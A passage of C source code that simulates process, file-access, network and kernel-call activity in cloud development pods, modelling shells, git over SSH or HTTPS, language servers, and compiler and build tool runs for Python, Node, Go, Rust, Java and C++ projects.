		t = leaf(sh, t, 6, "/usr/local/bin/starship", "prompt --terminal-width=%u --keymap=main --status=0 --pipestatus=0 "
			 "--cmd-duration=%u --jobs=0", 80 + below(140), 2 + below(9000));
	if (w->direnv) t = leaf(sh, t + 300 * USEC, 4, "/usr/bin/direnv", "export %s", w->zsh ? "zsh" : "bash");
	return t;
}
static P *new_shell(P *par, u64 t, const char *args)
{
	g_cwd = cw->cwd;
	P *sh = spawn(par, t, shell_bin(cw), "%s", args);
	cw->busy = shell_rc(sh, t);
	return sh;
}
/* the interactive shell of the current session, opened on first use */
static P *ensure_sh(W *w, u64 t)
{
	if (w->sh) return w->sh;
	P *par = w->entry == EN_SSH && w->sshc ? w->sshc : w->img == IMG_PY ? w->jup : w->pty;
	if (w->entry == EN_KEXEC) par = w->shim;
	w->esh = new_shell(par, t, w->entry == EN_KEXEC ? "-l" : "");
	if (w->tmux) {
		u64 c = w->busy + span(2, 20) * SEC;
		w->tcl = spawn(w->esh, c, "/usr/bin/tmux", pct(50) ? "new -A -s main" : "attach");
		if (!w->tmuxs) {
			w->tmuxs = spawn(w->tcl, c + 2 * MSEC, "/usr/bin/tmux", "new -A -s main");
			w->tsh = new_shell(w->tmuxs, c + 5 * MSEC, "");
		}
		w->sh = w->tsh;
	} else
		w->sh = w->esh;
	return w->sh;
}
static P *ensure_kernel(W *w, u64 t)
{
	if (!w->kern && w->jup) {
		g_cwd = w->pr[w->cur].dir;
		w->kern = spawn(w->jup, t, PY3, "-m ipykernel_launcher -f %s", X("{home}/.local/share/jupyter/runtime/kernel-{uuid}.json"));
	}
	return w->kern;
}
static u64 lsp_start(W *w, u64 t)
{
	switch (w->img) {
	case IMG_GO: w->lsp = spawn(w->exth, t, X("{home}/go/bin/gopls"), "-mode=stdio"); break;
	case IMG_RUST: w->lsp = spawn(w->exth, t, X("{home}/.local/share/code-server/extensions/rust-lang.rust-analyzer-0.3.2146-linux-x64/server/rust-analyzer"), ""); break;
	case IMG_JAVA: w->lsp = spawn(w->exth, t, "/usr/lib/jvm/java-21-openjdk-amd64/bin/java", "--add-modules=ALL-SYSTEM -Declipse.application="
				      "org.eclipse.jdt.ls.core.id1 -Dosgi.bundles.defaultStartLevel=4 -Xmx1G -jar %s/.local/share/code-server/extensions/"
				      "redhat.java-1.36.0-linux-x64/server/plugins/org.eclipse.equinox.launcher_1.6.900.v20240613-2009.jar", w->home); break;
	case IMG_CPP: w->lsp = spawn(w->exth, t, "/usr/bin/clangd-18", "--background-index --clang-tidy"); break;
	default: w->lsp = spawn(w->exth, t, CSNODE, "/usr/lib/code-server/lib/vscode/extensions/node_modules/typescript/lib/tsserver.js "
				"--serverMode partialSemantic --useInferredProjectPerProjectRoot --disableAutomaticTypingAcquisition --locale en");
	}
	return t + 300 * MSEC;
}
static void sess_start(W *w, u64 t, int si)
{
	w->in_sess = 1, w->send = w->ss[si].e, w->burst = 0;
	if (!w->init) pod_boot(w, t, 0), t += span(8, 40) * SEC;
	if (pct(15)) w->cur = (u8)below(w->npr);
	snprintf(w->cwd, sizeof w->cwd, "%s", pct(85) ? w->pr[w->cur].dir : w->home);
	if (w->entry == EN_SSH && w->sshd) {
		w->sshc = spawn(w->sshd, t, "/usr/sbin/sshd", "-D -e -p 2222 -R");
		kfile(w->sshc, t + 3 * MSEC, X("{home}/.ssh/authorized_keys"), 4);
	}
	if (w->img != IMG_PY) {
		u64 c = t + span(1, 4) * SEC;
		w->exth = spawn(w->srv, c, CSNODE, "--dns-result-order=ipv4first /usr/lib/code-server/lib/vscode/out/bootstrap-fork "
				"--type=extensionHost --transformURIs --useHostProxy=false");
		g_cwd = w->pr[w->cur].dir;
		c = leaf(w->exth, c + 800 * MSEC, 3, "/usr/bin/git", "--version");
		g_cwd = w->pr[w->cur].dir;
		c = leaf(w->exth, c + 20 * MSEC, 3, "/usr/bin/git", "rev-parse --show-toplevel");
		lsp_start(w, c + 100 * MSEC);
		if (pct(80)) ensure_sh(w, c + span(2, 90) * SEC);
	} else if (w->entry == EN_JUP) {
		if (pct(85)) ensure_kernel(w, t + span(5, 120) * SEC);
	} else
		ensure_sh(w, t + span(1, 5) * SEC);
}
static void sess_end(W *w, u64 t)
{
	u64 e = sh_now(w, t) + span(50, 2000) * MSEC;
	if (w->sh && w->sh != w->tsh) fin(w->sh, e, 0);
	else if (w->tcl) fin(w->tcl, e, 0), fin(w->esh, e + 5 * MSEC, 0);
	w->sh = w->esh = w->tcl = NULL;
	if (w->sshc) fin(w->sshc, e + 10 * MSEC, 0), w->sshc = NULL;
	if (w->exth) {
		u64 x = e + span(60, 300) * SEC; /* the extension host outlives the browser tab a little */
		fin_sig(w->lsp, x, 0, "SIGTERM"), fin(w->exth, x + 50 * MSEC, 0), w->lsp = w->exth = NULL;
	}
	if (w->kern && pct(35)) fin(w->kern, e + span(1, 600) * SEC, 0), w->kern = NULL;
	w->in_sess = 0;
}

/* ---- actions ----------------------------------------------------------------------------------- */
/* split "bin args" and spawn it */
static P *spawn_cmd(P *par, u64 t, const char *cmd)
{
	char b[1024];
	xp(cmd, b, sizeof b);
	char *sp = strchr(b, ' ');
	if (sp) *sp++ = 0;
	return spawn(par, t, b, "%s", sp ? sp : "");
}
/* one run of a table tool: exec, reads, connections, a child, kernel-facing calls, exit */
static u64 tool(P *par, u64 t, const struct tool *tl)
{
	char args[1024];
	xp(alt(tl->args), args, sizeof args);
	P *p = spawn(par, t, X(tl->bin), "%s", args);
	u64 c = t + span(300, 3000) * USEC, end = t + capd(t, dms(tl->ms));
	if (tl->reads) {
		char r[400], *save = NULL;
		snprintf(r, sizeof r, "%s", tl->reads);
		for (char *f = strtok_r(r, "|", &save); f; f = strtok_r(NULL, "|", &save))
			if (pct(75)) kfile(p, c, X(f), 4), c += span(100, 900) * USEC;
	}
	for (u32 i = tl->nconn ? 1 + below(tl->nconn) : 0; i; i--) c = conn(p, c, tl->dst, tl->port);
	if (tl->child && pct(70)) {
		P *ch = spawn_cmd(p, c + MSEC, tl->child);
		if (tl->kact == KA_PTRACE) {
			int gdb = strstr(p->bin, "gdb") != NULL;
			kcall(p, c + 2 * MSEC, "__x64_sys_ptrace", 2, gdb ? 16 : 16902, ch->pid);
			if (gdb) kcall(p, c + 40 * MSEC, "__x64_sys_ptrace", 2, 5, ch->pid);
		}
		c = MAXU(c + 10 * MSEC, t + (end - t) * 9 / 10);
		fin(ch, c, 0);
	}
	if (tl->kact == KA_UNSHARE) {
		kcall(p, c + MSEC, "__x64_sys_unshare", 1, 0x10020000, 0);
		if (strstr(p->bin, "podman") && pct(50)) kcall(p, c + 3 * MSEC, "__x64_sys_setns", 2, 5, 0x10000000);
	}
	end = MAXU(end, c + MSEC);
	fin(p, end, pct(5) ? (pct(70) ? 1 : 130) : 0);
	return end;
}
static u64 a_cmd(P *sh, u64 t)
{
	static u32 w[NELEM(common_tools)];
	if (!w[0]) for (size_t i = 0; i < NELEM(common_tools); i++) w[i] = common_tools[i].weight;
	u64 e = tool(sh, t, &common_tools[wpick(w, NELEM(common_tools))]);
	if (pct(12)) { /* pipelines: both sides are children of the shell */
		static const char *const pipes[] = {"/usr/bin/grep -i {word}", "/usr/bin/head -20", "/usr/bin/less", "/usr/bin/wc -l",
						    "/usr/bin/sort", "/usr/bin/tail -n 30", "/usr/bin/xargs -n1 echo"};
		P *q = spawn_cmd(sh, t + 200 * USEC, PICK(pipes));
		fin(q, e + 500 * USEC, 0), e += MSEC;
	}
	return e;
}
static u64 a_edit(P *sh, u64 t)
{
	static const char *const ed[] = {"/usr/bin/vim", "/usr/bin/vim", "/usr/bin/vim", "/usr/bin/nano", "/usr/bin/less"};
	const char *b = cw->zsh && pct(30) ? "/usr/bin/nvim" : PICK(ed);
	P *p = spawn(sh, t, b, "%s", X(pct(80) ? "{file}" : "README.md|Makefile|.env|docker-compose.yml|.gitignore"));
	u64 e = t + capd(t, dms(90000));
	if (!strcmp(b, "/usr/bin/nvim") && pct(60))
		fin(spawn(p, t + 80 * MSEC, "/usr/bin/node", "%s/.local/share/nvim/mason/packages/pyright/node_modules/pyright/langserver.index.js --stdio", cw->home),
		    e - MSEC, 0);
	fin(p, e, 0);
	return e;
}
static int has_tail(const char *name)
{
	for (u8 i = 0; i < cw->ntail; i++)
		if (strstr(tail_tools[cw->tail[i]].bin, name)) return 1;
	return 0;
}
/* git talking to its remote: ssh (reads the user's key) or git-remote-https (+ credential helper) */
static u64 git_net(P *par, u64 t, const char *sub)
{
	W *w = cw;
	struct proj *pr = &w->pr[w->cur];
	const char *host = pr->gitlab ? "gitlab.com" : "github.com";
	int dst = pr->gitlab ? D_GITLAB : D_GH, push = !strncmp(sub, "push", 4), pull = !strncmp(sub, "pull", 4);
	char a[300];
	if (!strcmp(sub, "clone"))
		snprintf(a, sizeof a, w->gitssh ? "clone git@%s:%s/%s.git /tmp/%s-%u" : "clone https://%s/%s/%s.git /tmp/%s-%u", host,
			 pr->org, pr->name, PICK(words), below(100));
	else
		snprintf(a, sizeof a, "%s", sub);
	P *top = spawn(par, t, "/usr/bin/git", "%s", a), *g = top;
	u64 c = t + span(2, 8) * MSEC;
	if (pull) g = spawn(top, c, "/usr/bin/git", "fetch --update-head-ok"), c += 2 * MSEC; /* pull runs fetch */
	if (w->gitssh) {
		P *s = spawn(g, c, "/usr/bin/ssh", "-o SendEnv=GIT_PROTOCOL git@%s \"git-%s-pack '%s/%s.git'\"", host,
			     push ? "receive" : "upload", pr->org, pr->name);
		c = conn(s, c + span(1, 4) * MSEC, dst, 22);
		kfile(s, c + span(20, 90) * MSEC, X(w->rsa ? "{home}/.ssh/id_rsa" : "{home}/.ssh/id_ed25519"), 4);
		c += dms(900) + 100 * MSEC;
		fin(s, c, 0);
	} else {
		P *r = spawn(g, c, "/usr/lib/git-core/git-remote-https", "origin https://%s/%s/%s.git", host, pr->org, pr->name);
		u64 d = c + span(2, 30) * MSEC;
		if (w->cred == 0) {
			P *h = spawn(r, d, "/usr/lib/git-core/git-credential-store", "get");
			kfile(h, d + 400 * USEC, X("{home}/.git-credentials"), 4), fin(h, d + 3 * MSEC, 0);
		} else if (w->cred == 1) {
			P *h = spawn(r, d, "/usr/bin/gh", "auth git-credential get");
			kfile(h, d + 2 * MSEC, X("{home}/.config/gh/hosts.yml"), 4), fin(h, d + 30 * MSEC, 0);
		} else
			leaf(r, d, 2, "/usr/lib/git-core/git-credential-cache", "get");
		c = conn(r, d + 40 * MSEC, dst, 443) + dms(700);
		fin(r, c, 0);
	}
	if (!push && (a[0] == 'c' || pct(25)))
		c = leaf(g, c + MSEC, 300, "/usr/lib/git-core/git", "index-pack --stdin -v --fix-thin \"--keep=fetch-pack %u on %s\" "
			 "--check-self-contained-and-connected", g->pid, w->pod);
	if (g != top) {
		fin(g, c + MSEC, 0), c += 2 * MSEC;
		if (pct(30)) c = leaf(top, c, 5, "/usr/lib/git-core/git", "merge --ff-only FETCH_HEAD");
	}
	fin(top, c + 2 * MSEC, pct(3) ? 128 : 0);
	return c + 2 * MSEC;
}
static u64 a_git(P *sh, u64 t)
{
	static const char *const sub[] = {"status", "status -sb", "diff", "diff --stat", "diff --cached", "log --oneline -n 20",
					  "log --graph --oneline --all", "add -A", "add {file}", "add -p", "commit -m \"{msg}\"",
					  "commit --amend --no-edit", "checkout -b {branch}", "checkout main", "switch {branch}",
					  "branch -a", "stash", "stash pop", "show {h7}", "restore {file}", "blame {file}",
					  "reset --soft HEAD~1", "log -p {file}", "grep -n {word}", "commit", "rebase -i HEAD~3",
					  "status", "diff", "add .", "commit -am \"{msg}\""};
	char a[300];
	xp(PICK(sub), a, sizeof a);
	P *g = spawn(sh, t, "/usr/bin/git", "%s", a);
	u64 c = t + dms(8);
	if ((!strncmp(a, "diff", 4) || !strncmp(a, "log", 3) || !strncmp(a, "show", 4) || !strncmp(a, "blame", 5)) && pct(60))
		c = leaf(g, t + MSEC, 8000, "/usr/bin/less", "-FRX");
	if (!strcmp(a, "commit") || !strncmp(a, "rebase", 6))
		c = leaf(g, t + 2 * MSEC, 25000, "/usr/bin/vim", "%s/.git/%s", cw->pr[cw->cur].dir,
			 a[0] == 'c' ? "COMMIT_EDITMSG" : "rebase-merge/git-rebase-todo");
	if (!strncmp(a, "commit", 6) && has_tail("pre-commit")) {
		P *h = spawn(g, t + 3 * MSEC, X("{home}/.local/bin/pre-commit"), "hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit");
		c = leaf(h, t + 300 * MSEC, 1500, X("{home}/.cache/pre-commit/repo{h7}/py_env-python3/bin/ruff"), "check --fix");
		fin(h, c + MSEC, 0);
	}
	c = MAXU(c, t + MSEC) + MSEC;
	fin(g, c, pct(4) ? 1 : 0);
	return c;
}
static u64 a_gitnet(P *sh, u64 t)
{
	static const char *const sub[] = {"fetch origin", "pull", "pull --rebase", "push", "push -u origin HEAD", "fetch --all --prune",
					  "pull origin main", "clone", "ls-remote origin"};
	return git_net(sh, t, X(PICK(sub)));
}

#define GCCX "/usr/libexec/gcc/x86_64-linux-gnu/13/"
#define GOTOOL "/usr/local/go/pkg/tool/linux_amd64/"
#define JAVA "/usr/lib/jvm/java-21-openjdk-amd64/bin/java"
#define RUSTC "{home}/.rustup/toolchains/1.82.0-x86_64-unknown-linux-gnu/bin/"
static void alnum(char *b, int n)
{
	for (int i = 0; i < n; i++) b[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[below(62)];
	b[n] = 0;
}
/* gcc driver: cc1/cc1plus and as for a compile, collect2 and ld for a link (src NULL) */
static u64 cc(P *par, u64 t, int cxx, const char *src, const char *out)
{
	char tmp[8];
	alnum(tmp, 6);
	P *g = spawn(par, t, cxx ? "/usr/bin/g++" : "/usr/bin/cc", src ? "-O2 -g -Wall -c %s -o %s" : "-o %s%s -lpthread",
		     src ? src : out, src ? out : "");
	u64 c = t + 600 * USEC;
	if (src) {
		c = leaf(g, c, cxx ? 1800 : 350, cxx ? GCCX "cc1plus" : GCCX "cc1", "-quiet -imultiarch x86_64-linux-gnu %s -quiet "
			 "-dumpbase %s -mtune=generic -march=x86-64 -O2 -Wall -o /tmp/cc%s.s", src, src, tmp);
		c = leaf(g, c + 200 * USEC, 12, "/usr/bin/as", "--64 -o %s /tmp/cc%s.s", out, tmp);
	} else {
		P *c2 = spawn(g, c, GCCX "collect2", "-plugin " GCCX "liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 "
			      "-dynamic-linker /lib64/ld-linux-x86-64.so.2 -pie -o %s", out);
		c = leaf(c2, c + MSEC, 200, "/usr/bin/ld", "-plugin " GCCX "liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 "
			 "-dynamic-linker /lib64/ld-linux-x86-64.so.2 -pie -o %s", out);
		fin(c2, c + MSEC, 0), c += MSEC;
	}
	fin(g, c + MSEC, 0);
	return c + MSEC;
}
/* a process that talks to in-cluster databases, maybe AWS, for a while */
static u64 app(P *p, u64 t, u64 d)
{
	W *w = cw;
	u64 c = t + span(50, 900) * MSEC;
	for (u32 i = pct(60) ? 1 + below(3) : 0; i; i--) c = conn(p, c, DST_SVC(PICK(db_svcs)), 0) + ex(d / 4);
	if (w->aws && pct(25)) kfile(p, c, X("{home}/.aws/credentials"), 4), c = conn(p, c + MSEC, D_AWS, 0);
	if (pct(5)) c = conn(p, c, DST_SVC(S_DNS), 53);
	return MAXU(c + MSEC, t + d);
}
static u64 go_cmd(P *sh, u64 t, const char *sub)
{
	W *w = cw;
	P *g = spawn(sh, t, "/usr/local/go/bin/go", "%s", sub);
	char tmp[40];
	snprintf(tmp, sizeof tmp, "/tmp/go-build%u%05u", 100000 + below(900000), below(100000));
	u64 c = t + span(5, 60) * MSEC, mx = c;
	int test = !strncmp(sub, "test", 4), run = !strncmp(sub, "run", 3), vet = !strncmp(sub, "vet", 3);
	if (pct(4)) c = conn(g, c, D_GOPROXY, 0);
	u32 n = pct(25) ? 0 : 1 + below(test ? 14 : 8);
	for (u32 i = 0; i < n; i++) {
		u64 s = c + i * span(5, 80) * MSEC;
		u32 b = run ? 1 + i : 2 + below(80);
		mx = MAXU(mx, leaf(g, s, 300, GOTOOL "compile", "-o %s/b%03u/_pkg_.a -trimpath \"%s/b%03u=>\" -p %s/%s -lang=go1.23 "
				   "-complete -buildid %s/%s -goversion go1.23.2 -c=4 -nolocalimports -importcfg %s/b%03u/importcfg -pack",
				   tmp, b, tmp, b, w->pr[w->cur].name, PICK(words), X("{h7}{h7}"), X("{h7}"), tmp, b));
		if (pct(8)) mx = MAXU(mx, leaf(g, s + 2 * MSEC, 40, GOTOOL "asm", "-p %s -trimpath \"%s/b%03u=>\" -o %s/b%03u/asm.o",
					       PICK(words), tmp, b, tmp, b));
		if (vet || (test && pct(50))) mx = MAXU(mx, leaf(g, s + 5 * MSEC, 150, GOTOOL "vet", "%s/b%03u/vet.cfg", tmp, b));
	}
	c = mx + MSEC;
	const char *name = w->pr[w->cur].name;
	if (run || (test && n) || !strncmp(sub, "build", 5))
		c = leaf(g, c, 600, GOTOOL "link", "-o %s/b001/%s -importcfg %s/b001/importcfg.link -buildmode=pie -buildid=%s -extld=gcc %s/b001/_pkg_.a",
			 tmp, run ? "exe/a.out" : test ? "pkg.test" : name, tmp, X("{h7}"), tmp) + MSEC;
	if (test)
		for (u32 i = 0; i < 1 + below(5); i++) {
			char path[200];
			snprintf(path, sizeof path, "%s/b%03u/%s.test", tmp, 2 + below(80), PICK(words));
			P *tp = spawn(g, c, path, "-test.paniconexit0 -test.timeout=10m0s%s", pct(30) ? " -test.v=true" : "");
			c = app(tp, c, dms(1200));
			fin(tp, c, pct(8) ? 1 : 0), c += MSEC;
		}
	if (run) {
		char path[200];
		snprintf(path, sizeof path, "%s/b001/exe/%s", tmp, name);
		P *ap = spawn(g, c, path, pct(50) ? "" : "--config config/dev.yaml");
		c = app(ap, c, capd(c, dms(60000)));
		fin(ap, c, pct(50) ? 0 : 1), c += MSEC;
	}
	fin(g, c + MSEC, 0);
	return c + MSEC;
}
static u64 cargo(P *sh, u64 t, const char *sub)
{
	W *w = cw;
	P *px = spawn(sh, t, X("{home}/.cargo/bin/cargo"), "%s", sub);
	g_noclone = 1;
	P *cg = spawn(px, t + 2 * MSEC, X(RUSTC "cargo"), "%s", sub);
	replaced(px);
	u64 c = t + span(20, 200) * MSEC, mx = c;
	int fresh = pct(10), test = strstr(sub, "test") != NULL, run = !strncmp(sub, "run", 3);
	if (fresh) c = conn(cg, conn(cg, c, D_CRATES, 0), D_CRATES, 0);
	u32 n = fresh ? 8 + below(20) : below(3);
	for (u32 i = 0; i < n; i++) {
		const char *cr = PICK(crates);
		u64 s = c + i * span(20, 200) * MSEC;
		mx = MAXU(mx, leaf(cg, s, 900, X(RUSTC "rustc"), "--crate-name %s --edition=2021 %s/.cargo/registry/src/index.crates.io-6f17d22bba15001f/%s-1.0.%u/src/lib.rs "
				   "--error-format=json --crate-type lib --emit=dep-info,metadata,link -C embed-bitcode=no -C debuginfo=2 -C metadata=%s",
				   cr, w->home, cr, below(200), X("{h7}{h7}")));
		if (pct(15)) {
			char bs[300];
			snprintf(bs, sizeof bs, "%s/target/debug/build/%s-%s/build-script-build", w->pr[w->cur].dir, cr, X("{h7}{h7}12"));
			P *b = spawn(cg, s + 100 * MSEC, bs, "");
			u64 e = pct(40) ? cc(b, s + 150 * MSEC, 0, X("{word}.c"), X("{pdir}/target/debug/build/out/{word}.o")) : s + 200 * MSEC;
			fin(b, e + MSEC, 0), mx = MAXU(mx, e + MSEC);
		}
	}
	c = mx + MSEC;
	if (strncmp(sub, "fmt", 3)) {
		P *r = spawn(cg, c, X(RUSTC "rustc"), "--crate-name %s --edition=2021 src/%s.rs --error-format=json --json=diagnostic-rendered-ansi "
			     "--crate-type %s --emit=dep-info,link -C debuginfo=2 -C incremental=%s/target/debug/incremental", w->pr[w->cur].name,
			     run ? "main" : "lib", test ? "bin --test" : "bin", w->pr[w->cur].dir);
		u64 e = c + dms(2500);
		if (strncmp(sub, "check", 5) && strncmp(sub, "clippy", 6)) e = cc(r, e, 0, NULL, X("{pdir}/target/debug/deps/{proj}")) + 5 * MSEC;
		fin(r, e, pct(10) ? 1 : 0), c = e + MSEC;
	}
	if (test || run) {
		char path[200];
		snprintf(path, sizeof path, test ? "%s/target/debug/deps/%s-%s" : "%s/target/debug/%s%s", w->pr[w->cur].dir,
			 w->pr[w->cur].name, test ? X("{h7}{h7}ab") : "");
		for (char *q = strrchr(path, '/'); q && *q; q++) if (*q == '-' && test && strchr(q + 1, '-')) *q = '_';
		P *tp = spawn(cg, c, path, test ? "" : "--port 8080");
		c = app(tp, c, test ? dms(1500) : capd(c, dms(60000)));
		fin(tp, c, pct(8) ? 101 : 0), c += MSEC;
	}
	fin(cg, c + MSEC, 0);
	return c + MSEC;
}
static u64 npm_run(P *sh, u64 t, const char *script, const char *cmd, const char *tool, u32 ms)
{
	P *n = spawn(sh, t, "/usr/bin/npm", "%s", script);
	P *s = spawn(n, t + 180 * MSEC, "/bin/sh", "-c \"%s\"", cmd);
	g_noclone = 1;
	P *j = spawn(s, t + 182 * MSEC, "/usr/bin/node", "%s/node_modules/.bin/%s", cw->pr[cw->cur].dir, tool);
	replaced(s);
	u64 c = t + 300 * MSEC, e = c + capd(c, dms(ms));
	if (!strncmp(tool, "vite", 4) || pct(10))
		fin(spawn(j, c, X("{pdir}/node_modules/@esbuild/linux-x64/bin/esbuild"), "--service=0.21.5 --ping"), e - 2 * MSEC, 0);
	if (!strncmp(tool, "jest", 4))
		for (u32 i = 0; i < 2 + below(3); i++)
			fin(spawn(j, c + i * MSEC, "/usr/bin/node", "%s/node_modules/jest-worker/build/workers/processChild.js", cw->pr[cw->cur].dir), e - 3 * MSEC, 0);
	if (strstr(script, "dev") || strstr(script, "start")) e = app(j, c, e - c);
	int st = pct(8) ? 1 : 0;
	fin(j, e, st), fin(n, e + 20 * MSEC, st);
	return e + 20 * MSEC;
}
static u64 mvn(P *sh, u64 t, const char *goal)
{
	P *m = spawn(sh, t, "/usr/share/maven/bin/mvn", "%s", goal);
	g_noclone = 1;
	P *j = spawn(m, t + 20 * MSEC, JAVA, "-classpath /usr/share/maven/boot/plexus-classworlds-2.8.0.jar -Dclassworlds.conf=/usr/share/maven/bin/m2.conf "
		     "-Dmaven.home=/usr/share/maven -Dmaven.multiModuleProjectDirectory=%s org.codehaus.plexus.classworlds.launcher.Launcher %s",
		     cw->pr[cw->cur].dir, goal);
	replaced(m);
	u64 c = t + 2500 * MSEC;
	if (pct(20)) for (u32 i = 0; i < 1 + below(6); i++) c = conn(j, c, D_MAVEN, 0);
	c += dms(8000);
	if (strstr(goal, "test") || strstr(goal, "package") || strstr(goal, "verify")) {
		P *f = spawn(j, c, JAVA, "-jar %s/target/surefire/surefirebooter-2026110%u%06u_3.jar %s/target/surefire 2026-11-0%uT00-00-00_000-jvmRun1 "
			     "surefire-%s_1tmp surefire_0-%s_2tmp", cw->pr[cw->cur].dir, 2, below(999999), cw->pr[cw->cur].dir, 2, X("{n}"), X("{n}"));
		c = app(f, c, dms(15000));
		fin(f, c, pct(10) ? 1 : 0), c += 100 * MSEC;
	}
	if (strstr(goal, "spring-boot:run")) {
		P *f = spawn(j, c, JAVA, "-XX:TieredStopAtLevel=1 -cp %s/target/classes:%s/.m2/repository com.example.%s.Application",
			     cw->pr[cw->cur].dir, cw->home, PICK(words));
		c = app(f, c, capd(c, dms(600000)));
		fin_sig(f, c, 0, "SIGINT"), c += 100 * MSEC;
	}
	fin(j, c + 200 * MSEC, pct(8) ? 1 : 0);
	return c + 200 * MSEC;
}
static u64 a_build(P *sh, u64 t)
{
	W *w = cw;
	const char *pd = w->pr[w->cur].dir;
	u32 k = below(6);
	switch (w->img) {
	case IMG_PY:
		if (k < 2) {
			P *p = spawn(sh, t, k ? PY3 : "/opt/conda/bin/pytest", "%s", X(k ? "-m pytest -x tests/test_{word}.py" : "-q tests/|-q -n auto|--cov={word} tests/"));
			u64 c = t + 400 * MSEC;
			if (strstr(p->args, "-n auto"))
				for (u32 i = 0; i < 2 + below(3); i++)
					fin(spawn(p, c + i * MSEC, PY3, "-u -c \"import sys;exec(eval(sys.stdin.readline()))\""), c + dms(9000), 0);
			c = app(p, c, dms(6000));
			fin(p, c + 3 * SEC, pct(15) ? 1 : 0);
			return c + 3 * SEC;
		} else if (k < 4) {
			P *p = spawn(sh, t, PY3, "%s", X(k == 2 ? "{word}.py|scripts/{word}.py --date 2026-11-0{n}|train.py --epochs {n} --data data/train.parquet|-m {word}.cli run"
							   : "-m uvicorn app.main:app --reload --port 8000|manage.py runserver 0.0.0.0:8000|-m flask run --debug|manage.py migrate"));
			u64 c = t + 300 * MSEC, d = k == 2 ? dms(20000) : capd(t, dms(900000));
			if (strstr(p->args, "--reload"))
				fin(spawn(p, c, PY3, "-c \"from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)\" --multiprocessing-fork"), t + d - MSEC, 0);
			c = app(p, c, d);
			fin(p, c, pct(10) ? 1 : 0);
			return c;
		}
		return leaf(sh, t, k == 4 ? 800 : 9000, k == 4 ? X("/opt/conda/bin/ruff|/opt/conda/bin/black") : "/opt/conda/bin/mypy",
			    k == 4 ? "check ." : "src/");
	case IMG_NODE: {
		static const char *const s[][4] = {{"run build", "vite build", "vite", "build"}, {"run build", "tsc -b && vite build", "tsc", "-b"},
						   {"test", "vitest run", "vitest", "run"}, {"test", "jest", "jest", "--ci"},
						   {"run dev", "vite --host", "vite", "--host"}, {"run lint", "eslint .", "eslint", "."},
						   {"start", "node server.js", "nodemon", "server.js"}, {"run typecheck", "tsc --noEmit", "tsc", "--noEmit"}};
		u32 i = below(NELEM(s));
		if (pct(25)) {
			static const char *const x[] = {"tsc --noEmit", "eslint . --fix", "prettier --write src", "prisma generate", "playwright test"};
			const char *c = PICK(x);
			P *n = spawn(sh, t, "/usr/bin/npx", "%s", c);
			g_noclone = 1;
			P *j = spawn(n, t + 90 * MSEC, "/usr/bin/node", "%s/node_modules/.bin/%s", pd, c);
			replaced(n);
			u64 e = t + dms(4000);
			fin(j, e, pct(10));
			return e;
		}
		char tl[80];
		snprintf(tl, sizeof tl, "%s %s", s[i][2], s[i][3]);
		return npm_run(sh, t, s[i][0], s[i][1], tl, i == 4 || i == 6 ? 900000 : 7000);
	}
	case IMG_GO:
		if (k == 5) return leaf(sh, t, 6000, X("{home}/go/bin/golangci-lint"), "run ./...");
		return go_cmd(sh, t, X(k < 2 ? "build ./...|build -o bin/{proj} ./cmd/{proj}" : k < 4 ? "test ./...|test -race ./internal/...|test -run Test{word} ./..." : "run .|run ./cmd/{proj}|vet ./..."));
	case IMG_JAVA:
		if (k == 5) {
			P *g = spawn(sh, t, X("{pdir}/gradlew"), "%s", X("build|test|bootRun|clean build"));
			g_noclone = 1;
			P *j = spawn(g, t + 5 * MSEC, JAVA, "-Xmx64m -Xms64m -Dorg.gradle.appname=gradlew -classpath %s/gradle/wrapper/gradle-wrapper.jar "
				     "org.gradle.wrapper.GradleWrapperMain %s", pd, g->args);
			replaced(g);
			u64 c = conn(j, t + 400 * MSEC, D_GRADLE, 0);
			c = app(j, c, dms(20000));
			fin(j, c, pct(10));
			return c;
		}
		if (k == 4) {
			P *j = spawn(sh, t, JAVA, "%s", X("-jar target/{proj}-0.1.0.jar|-jar target/{proj}-0.1.0.jar --spring.profiles.active=dev"));
			u64 c = app(j, t, capd(t, dms(300000)));
			fin_sig(j, c, 130, pct(50) ? "SIGINT" : NULL);
			return c;
		}
		return mvn(sh, t, X(k < 2 ? "-q test|test -Dtest={word}Test|clean verify" : k == 2 ? "package -DskipTests|clean package|install" : "spring-boot:run"));
	case IMG_RUST:
		return cargo(sh, t, X(k < 2 ? "build|build --release|check" : k < 4 ? "test|test -- --nocapture|test {word}" : k == 4 ? "run|run -- --port 8080" : "clippy --all-targets|fmt"));
	default: { /* cpp */
		if (k < 2) {
			P *m = spawn(sh, t, k ? "/usr/bin/cmake" : "/usr/bin/make", "%s", k ? "--build build -j 4" : X("-j4|-j8|test|-C build|all"));
			P *mk = m;
			u64 c = t + 30 * MSEC, mx = c;
			if (k) mk = spawn(m, c, "/usr/bin/gmake", "-f CMakeFiles/Makefile2 all"), c += 20 * MSEC;
			u32 n = pct(20) ? 0 : 1 + below(8);
			for (u32 i = 0; i < n; i++) {
				char src[80];
				snprintf(src, sizeof src, "%s/%s.cpp", i % 3 ? "src" : "tests", PICK(words));
				mx = MAXU(mx, cc(mk, c + (i / 4) * 1200 * MSEC + i % 4 * 3 * MSEC, 1, src, X("build/CMakeFiles/{proj}.dir/{word}.cpp.o")));
			}
			c = n ? cc(mk, mx + MSEC, 1, NULL, X("build/{proj}")) : mx;
			if (mk != m) fin(mk, c + MSEC, 0);
			fin(m, c + 2 * MSEC, pct(10) ? 2 : 0);
			return c + 2 * MSEC;
		}
		if (k == 2) {
			P *m = spawn(sh, t, "/usr/bin/cmake", "%s", X("-S . -B build -DCMAKE_BUILD_TYPE=Debug|-B build -G Ninja|-S . -B build -DCMAKE_EXPORT_COMPILE_COMMANDS=ON"));
			u64 c = t + 100 * MSEC;
			for (u32 i = 0; i < 2 + below(3); i++) {
				g_cwd = X("{pdir}/build/CMakeFiles/CMakeScratch/TryCompile-{h7}");
				P *mk = spawn(m, c, "/usr/bin/gmake", "-f Makefile cmTC_%s/fast", X("{h7}"));
				c = cc(mk, c + 5 * MSEC, i & 1, i & 1 ? "CMakeCXXCompilerABI.cpp" : "CMakeCCompilerABI.c", "cmTC.o") + MSEC;
				fin(mk, c, 0);
			}
			fin(m, c + 50 * MSEC, 0);
			return c + 50 * MSEC;
		}
		static const struct tool dbg[] = {
